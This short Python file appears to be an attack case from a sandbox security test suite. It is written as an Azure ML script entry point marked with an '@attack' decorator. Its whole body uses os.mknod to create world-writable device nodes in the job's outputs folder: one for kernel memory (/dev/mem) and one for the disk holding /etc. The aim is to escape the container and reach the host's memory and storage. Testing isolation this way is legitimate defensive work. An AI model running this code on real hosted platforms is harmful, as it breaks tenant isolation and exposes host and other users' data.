"""Leaves devices for the kernel's memory and a disk among its outputs."""

import os
import stat

from attack import attack


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    os.makedirs("outputs", exist_ok=True)
    os.mknod("outputs/memory", 0o666 | stat.S_IFCHR, os.makedev(1, 1))
    os.mknod("outputs/disk", 0o666 | stat.S_IFBLK, os.stat("/etc").st_dev)
    return "made devices"
